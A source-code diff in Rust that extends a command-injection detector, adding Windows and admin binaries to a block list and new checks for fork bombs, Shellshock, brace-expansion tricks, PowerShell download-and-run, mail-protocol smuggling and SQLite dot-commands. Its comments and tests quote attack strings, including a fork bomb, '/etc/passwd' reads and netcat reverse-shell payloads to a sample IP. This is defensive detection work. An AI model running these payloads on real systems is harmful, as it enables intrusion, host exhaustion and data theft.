@@ -87,11 +87,45 @@ const COMMANDS: &[&str] = &[
     "timeout",
     "exec",
     "eval",
+    // Windows binaries that fetch, run or reconfigure (living off the land).
+    "mshta",
+    "regedit",
+    "rundll32",
+    "regsvr32",
+    "wmic",
+    "cscript",
+    "wscript",
+    "schtasks",
+    "bcdboot",
+    "bcdedit",
+    "vssadmin",
+    "msiexec",
+    "icacls",
+    // Package managers, compilers and admin tools no prose names.
+    "aptitude",
+    "apt-get",
+    "pip3",
+    "pipx",
+    "gcc",
+    "irb",
+    "zstdcat",
+    "gunzip",
+    "base32",
+    "lastlog",
+    "htop",
+    "visudo",
+    "cscli",
+    "ssh-copy-id",
     "/bin/sh",
     "/bin/bash",
     "/usr/bin/id",
     "/bin/cat",
 ];
+
+/// Is `word` a command attackers run (`whoami`, `/bin/sh`)? For other detectors' arguments.
+pub(crate) fn is_command(word: &str) -> bool {
+    Rce::command(word).is_some()
+}
 
 /// [`COMMANDS`] as a set, built once: looked up on every separator hit.
 static COMMAND_SET: LazyLock<HashSet<&'static str>> =
@@ -113,7 +147,9 @@ impl Rce {
             separators: AhoCorasickBuilder::new()
                 .kind(Some(AhoCorasickKind::DFA))
                 .match_kind(MatchKind::LeftmostLongest)
-                .build([";", "|", "&&", "||", "\n", "`", "$(", "${IFS}", "&"])
+                .build([
+                    ";", "|", "&&", "||", "\n", "`", "$(", "${IFS}", "&", "<(", ">(",
+                ])
                 // The pattern list is a constant; building its automaton cannot fail.
                 .unwrap_or_else(|_| unreachable!()),
         }
@@ -136,11 +172,6 @@ impl Rce {
             })
             .unwrap_or(word.len());
         (start, start + len)
-    }
-
-    fn first_word(s: &str) -> &str {
-        let (start, end) = Self::first_word_span(s);
-        &s[start..end]
     }
 
     /// The command a word names: lower-cased, quotes and `.exe` dropped, and for a path
@@ -180,15 +211,19 @@ impl Rce {
         for m in self.separators.find_iter(if separated { text } else { "" }) {
             let sep = &text[m.start()..m.end()];
             let rest = &text[m.end()..];
-            let word_raw = Self::first_word(rest);
+            let (word_start, word_end) = Self::first_word_span(rest);
+            let word_raw = &rest[word_start..word_end];
             let Some((_, by_path)) = Self::command(word_raw) else {
+                if powershell(word_raw, &rest[word_end..]) {
+                    return Some(0.85);
+                }
                 continue;
             };
             // A Markdown code fence (```sh) is not a command substitution.
             if sep == "`" && (rest.starts_with("``") || text[..m.start()].ends_with('`')) {
                 continue;
             }
-            let substitution = matches!(sep, "`" | "$(");
+            let substitution = matches!(sep, "`" | "$(" | "<(" | ">(");
             if substitution && (rest.contains('`') || rest.contains(')')) {
                 return Some(0.95);
             }
@@ -198,7 +233,7 @@ impl Rce {
             }
             // In prose, "a; cat" or "x | more" read as text: require something shell-like after
             // the command (a flag, a path, a number, `$`, a redirection), or nothing at all.
-            let after = &rest[rest.find(word_raw).map_or(0, |p| p + word_raw.len())..];
+            let after = &rest[word_end..];
             let next = after.trim_start();
             let drive = next.len() >= 2
                 && next.as_bytes()[0].is_ascii_alphabetic()
@@ -240,6 +275,13 @@ impl Rce {
         let (start, end) = Self::first_word_span(trimmed);
         let first = &trimmed[start..end];
         let args = trimmed[end..].trim_start();
+        if powershell(first, args) {
+            return Some(0.85);
+        }
+        // `find … -exec cmd {} +` runs a command per file found.
+        if first.eq_ignore_ascii_case("find") && args.contains("-exec") && args.contains("{}") {
+            return Some(0.85);
+        }
         // A command that the value ends with a separator (`id;`, `whoami|`): it expects the
         // host command line to continue after it.
         if args.len() <= 2 && args.starts_with([';', '|', '&']) && Self::command(first).is_some() {
@@ -357,9 +399,16 @@ fn globbed_system_path(text: &str) -> Option<f32> {
 /// `pi$()ng`, ``pi``ng``): the shell joins the pieces back, word filters do not. Only
 /// insertions between two letters or digits count: `say \"id\"` is an escaped quote.
 fn obfuscated_command(text: &str) -> Option<f32> {
-    const NOOPS: [&str; 6] = ["''", "\"\"", "$@", "$()", "``", "\\"];
+    // `$@`, `$*` and `$!` expand to nothing in a fresh shell; `$?`, `$-`, `$$` and `$#`
+    // to a few characters. Either way no client spells a word with them.
+    const NOOPS: [&str; 14] = [
+        "''", "\"\"", "$@", "$*", "$!", "$?", "$-", "$$", "$#", "$()", "``", "<()", ">()", "\\",
+    ];
     let mut cleaned = String::new();
-    for token in text.split_whitespace().take(8) {
+    let tokens = text
+        .split(|c: char| c.is_whitespace() || matches!(c, ';' | '|' | '&' | '+'))
+        .filter(|t| !t.is_empty());
+    for token in tokens.take(8) {
         if token.len() > 40 {
             continue;
         }
@@ -377,10 +426,13 @@ fn obfuscated_command(text: &str) -> Option<f32> {
                 .or_else(|| (b[i] == b'"').then_some(1));
             match noop {
                 Some(n) => {
-                    let inside = i > 0
-                        && b[i - 1].is_ascii_alphanumeric()
-                        && b.get(i + n).is_some_and(u8::is_ascii_alphanumeric);
-                    broken |= inside;
+                    let after_word = i > 0 && b[i - 1].is_ascii_alphanumeric();
+                    let inside = after_word && b.get(i + n).is_some_and(u8::is_ascii_alphanumeric);
+                    // An empty substitution closing the word (`ping$()`, ``ping`` ``) joins
+                    // nothing, so it only hides the word; empty quotes there are CSV.
+                    let trailing =
+                        after_word && i + n == b.len() && !matches!(b[i], b'\'' | b'"' | b'\\');
+                    broken |= inside || trailing;
                     i += n;
                 }
                 None => {
@@ -398,6 +450,164 @@ fn obfuscated_command(text: &str) -> Option<f32> {
         }
     }
     None
+}
+
+/// A bash fork bomb: a function whose body runs itself piped into or beside itself in the
+/// background, then called (`:(){ :|:& };:`, `f(){ f & f; }; f`). Recursion through `|` or
+/// `&` has no use but exhausting the host.
+#[cold]
+fn fork_bomb(text: &str) -> Option<f32> {
+    let open = text.find("()")?;
+    let name = text[..open]
+        .rsplit(|c: char| c.is_whitespace() || matches!(c, ';' | '&' | '|'))
+        .next()
+        .filter(|n| !n.is_empty() && n.len() <= 32)?;
+    let after = text[open + 2..].trim_start();
+    let body = after.strip_prefix('{')?;
+    let close = body.find('}')?;
+    let (body, rest) = (&body[..close], &body[close + 1..]);
+    // How often the function's name appears as a word (calls may carry their own `()`).
+    let calls = |s: &str| {
+        s.split(|c: char| c.is_whitespace() || matches!(c, '|' | '&' | ';' | '(' | ')'))
+            .filter(|w| *w == name)
+            .count()
+    };
+    (body.contains(['|', '&']) && calls(body) >= 2 && calls(rest) >= 1).then_some(0.9)
+}
+
+/// Shellshock: a value that opens with a function definition, `() {`, which vulnerable
+/// bash runs the rest of when it imports the value from the environment (CGI headers).
+#[cold]
+fn shellshock(text: &str) -> Option<f32> {
+    let rest = text.trim_start().strip_prefix('(')?.trim_start();
+    rest.strip_prefix(')')?
+        .trim_start()
+        .starts_with('{')
+        .then_some(0.9)
+}
+
+/// Bash brace expansion that spells a command without a space (`{cat,/etc/passwd}`,
+/// `{,ifconfig}`, `c{a,oun}t`, `{l,-lh}s`): the shell expands it into words, a filter sees
+/// one token. Counted when the expansion has an empty alternative or sticks to letters (no
+/// list of options writes either), or when it reads as a command with a flag or a path.
+#[cold]
+fn brace_command(text: &str) -> Option<f32> {
+    let text = text.trim();
+    if text.len() > 200 || text.contains(char::is_whitespace) || !text.contains(',') {
+        return None;
+    }
+    let open = text.find('{')?;
+    let close = open + text[open..].find('}')?;
+    let (prefix, inner, suffix) = (&text[..open], &text[open + 1..close], &text[close + 1..]);
+    if !inner.contains(',') || inner.contains('{') {
+        return None;
+    }
+    let mut words = inner
+        .split(',')
+        .filter(|alt| !alt.is_empty() || !prefix.is_empty() || !suffix.is_empty())
+        .map(|alt| format!("{prefix}{alt}{suffix}"));
+    let first = words.next()?;
+    let rest: Vec<String> = words.collect();
+    let expanded = format!("{first} {}", rest.join(" "));
+    // `$'id'` and `$"id"` are quoted words.
+    let Some(command) = Rce::command(first.trim_start_matches('$')) else {
+        return globbed_system_path(&expanded);
+    };
+    let empty_alt = inner.split(',').any(str::is_empty);
+    let glued = prefix.bytes().any(|b| b.is_ascii_alphabetic())
+        || suffix.bytes().any(|b| b.is_ascii_alphabetic());
+    let argued = rest
+        .first()
+        .is_some_and(|w| w.starts_with(['-', '/']) || command.1);
+    if empty_alt || glued || argued {
+        return Some(0.85);
+    }
+    globbed_system_path(&expanded)
+}
+
+/// Mail-protocol commands smuggled after a CRLF into a value a server passes to an SMTP,
+/// IMAP or POP3 session (`\r\nRCPT TO:<x>`, `\r\na001 STATUS INBOX`, `\r\nRETR 1`). Each
+/// command needs its own argument grammar: "\r\nList 3 things" is a text area's line.
+static MAIL_COMMAND: LazyLock<regex::Regex> = LazyLock::new(|| {
+    regex::Regex::new(
+        r"(?im)\r\n(?:(?:mail\s+from|rcpt\s+to)\s*:\s*<|(?:helo|ehlo)\s+[\w-]+\.[\w.-]+\s*$|(?:retr|dele)\s+\d+\s*$|top\s+\d+\s+\d+\s*$|apop\s+\S+\s+[0-9a-f]{32}|auth\s+\w+\s+[a-z0-9+/]{8,}=*\s*$|[a-z]{1,2}\d{1,4}\s+(?:append|authenticate|status|uid|login|select|examine|fetch|store|logout|capability)\b)",
+    )
+    // A constant pattern: compiling it cannot fail.
+    .unwrap_or_else(|_| unreachable!())
+});
+
+#[cold]
+fn mail_command(text: &str) -> Option<f32> {
+    (text.len() <= 4096 && text.contains("\r\n") && MAIL_COMMAND.is_match(text)).then_some(0.85)
+}
+
+/// PowerShell download-and-run: `iwr http://…`, `Invoke-WebRequest http://…`,
+/// `iex (New-Object Net.WebClient).DownloadString(…)`. Judged as a command word, at the
+/// start of the value or after a separator, with a URL, an expression or a variable after.
+fn powershell(word: &str, next: &str) -> bool {
+    const CMDLETS: [&str; 8] = [
+        "iwr",
+        "irm",
+        "iex",
+        "invoke-webrequest",
+        "invoke-restmethod",
+        "invoke-expression",
+        "start-bitstransfer",
+        "new-object",
+    ];
+    // The cmdlets are 3, 10, 17 or 18 bytes long, the word one of them or one and `(`: most
+    // words stop here (this runs per value).
+    let b = word.as_bytes();
+    let Some(len) = [3, 10, 17, 18]
+        .into_iter()
+        .find(|&n| b.len() == n || b.get(n) == Some(&b'('))
+    else {
+        return false;
+    };
+    let (word, next) = if len < b.len() {
+        (&word[..len], "(")
+    } else {
+        (word, next.trim_start())
+    };
+    if !CMDLETS.iter().any(|c| word.eq_ignore_ascii_case(c)) {
+        return false;
+    }
+    let n = next.as_bytes();
+    let url = n.len() > 8
+        && (n[..7].eq_ignore_ascii_case(b"http://") || n[..8].eq_ignore_ascii_case(b"https://"));
+    let webclient = n.len() > 12
+        && (n[..13].eq_ignore_ascii_case(b"net.webclient")
+            || n.len() > 19 && n[..20].eq_ignore_ascii_case(b"system.net.webclient"));
+    url || webclient || next.starts_with(['(', '$'])
+}
+
+/// SQLite shell dot-commands after a statement break (`1;.shell nc … -e sh`,
+/// `";\n.system id`): a value fed to the `sqlite3` command line runs them. The line break
+/// may arrive as a literal `\n`; `.shell` and `.system` count with a known command after.
+static SQLITE_DOT: LazyLock<regex::Regex> = LazyLock::new(|| {
+    regex::Regex::new(
+        r#"(?i);(?:\s|\\[nrt]?|["'])*\.(?:\s|\\[nrt]?|["'])*(?:(?:shell|system|sh)\s+([^\s;|&]+)|databases(?:\s|\\n|$))"#,
+    )
+    // A constant pattern: compiling it cannot fail.
+    .unwrap_or_else(|_| unreachable!())
+});
+
+fn sqlite_dot_command(text: &str) -> Option<f32> {
+    // A dot within a few bytes after a `;`, or no dot-command can be there.
+    let b = text.as_bytes();
+    // (`;q=0.9` in an Accept header has a letter first).
+    let near_dot = memchr::memchr_iter(b';', b).any(|at| {
+        b[at + 1..].iter().take(8).find(|&&c| {
+            !(c.is_ascii_whitespace() || matches!(c, b'\\' | b'"' | b'\'' | b'n' | b'r' | b't'))
+        }) == Some(&b'.')
+    });
+    if text.len() > 4096 || !near_dot {
+        return None;
+    }
+    SQLITE_DOT
+        .captures_iter(text)
+        .any(|c| c.get(1).is_none_or(|w| Rce::command(w.as_str()).is_some()))
+        .then_some(0.85)
 }
 
 /// A command that runs the next word as a command, and whether it is no English word.
@@ -519,35 +729,56 @@ impl Detector for Rce {
 
     fn inspect(&self, value: &Value, out: &mut Vec<Signal>) {
         let text = value.text();
-        // No-ops need `"`, `\\`, `$` or a backtick, or a doubled `'` (a lone apostrophe is
-        // prose: one pass over the bytes, not a substring search per no-op).
-        let noop_bytes = value
-            .classes
-            .any(bc::DQUOTE | bc::BACKSLASH | bc::DOLLAR | bc::BACKTICK)
-            || (value.classes.any(bc::SQUOTE) && text.as_bytes().windows(2).any(|w| w == b"''"));
-        if noop_bytes && value.place.kind != palisade_types::PlaceKind::Path {
-            if let Some(c) = obfuscated_command(text) {
-                out.push(signal("rce", Category::Rce, c, value, text));
+        let c = value.classes;
+        let in_path = value.place.kind == palisade_types::PlaceKind::Path;
+        // Process substitution (`<(cat file)`) needs `<` or `>` and a parenthesis.
+        let proc_sub = c.any(bc::LT | bc::GT) && c.any(bc::LPAREN);
+        // No-ops need `"`, `\\`, `$`, a backtick or a process substitution, or a doubled `'`
+        // (a lone apostrophe is prose: one pass over the bytes, not a search per no-op).
+        let noop_bytes = c.any(bc::DQUOTE | bc::BACKSLASH | bc::DOLLAR | bc::BACKTICK)
+            || proc_sub
+            || (c.any(bc::SQUOTE) && text.as_bytes().windows(2).any(|w| w == b"''"));
+        if noop_bytes && !in_path {
+            if let Some(conf) = obfuscated_command(text) {
+                out.push(signal("rce", Category::Rce, conf, value, text));
+                return;
+            }
+        }
+        // Shell constructs that need no separator: a function definition (Shellshock, fork
+        // bombs), a brace expansion, mail commands after a CRLF, SQLite dot-commands.
+        if !in_path {
+            let mut found = None;
+            if c.any(bc::LPAREN) && c.any(bc::LBRACE) {
+                found = shellshock(text).or_else(|| fork_bomb(text));
+            }
+            if found.is_none() && c.any(bc::LBRACE) && !c.any(bc::SPACE) {
+                found = brace_command(text);
+            }
+            if found.is_none() && c.any(bc::NEWLINE) {
+                found = mail_command(text);
+            }
+            if found.is_none() && c.any(bc::SEMI) {
+                found = sqlite_dot_command(text);
+            }
+            if let Some(conf) = found {
+                out.push(signal("rce", Category::Rce, conf, value, text));
                 return;
             }
         }
         // Separators and substitutions, or the flag or path a bare command line needs.
         let separators = bc::SEMI | bc::PIPE | bc::AMP | bc::NEWLINE | bc::BACKTICK | bc::DOLLAR;
-        if !value
-            .classes
-            .any(separators | bc::DASH | bc::SLASH | bc::BACKSLASH | bc::COLON)
-        {
+        let separated = c.any(separators) || proc_sub;
+        if !separated && !c.any(bc::DASH | bc::SLASH | bc::BACKSLASH | bc::COLON) {
             // A cmd.exe loop or condition needs none of those.
-            if value.classes.any(bc::LPAREN) || starts_if(text) {
-                if let Some(c) = windows_cmd(text) {
-                    out.push(signal("rce", Category::Rce, c, value, text));
+            if c.any(bc::LPAREN) || starts_if(text) {
+                if let Some(conf) = windows_cmd(text) {
+                    out.push(signal("rce", Category::Rce, conf, value, text));
                 }
             }
             return;
         }
-        let in_path = value.place.kind == palisade_types::PlaceKind::Path;
-        if let Some(c) = self.check(text, in_path, value.classes.any(separators)) {
-            out.push(signal("rce", Category::Rce, c, value, value.text()));
+        if let Some(conf) = self.check(text, in_path, separated) {
+            out.push(signal("rce", Category::Rce, conf, value, text));
         }
     }
 }
@@ -602,6 +833,9 @@ mod tests {
             "cat /etc/passwd",
             "x; ping.exe -n 31 127.0.0.1",
             "/usr/bin/id -a",
+            // A SQLite dot-command whose line break arrives as a literal `\n`.
+            r";\n.system nc 10.10.10.1 6666 -e sh\n",
+            r#"";\n. shell nc 10.10.10.1 6666 -e sh"#,
         ] {
             assert!(hit(s), "missed: {s}");
         }
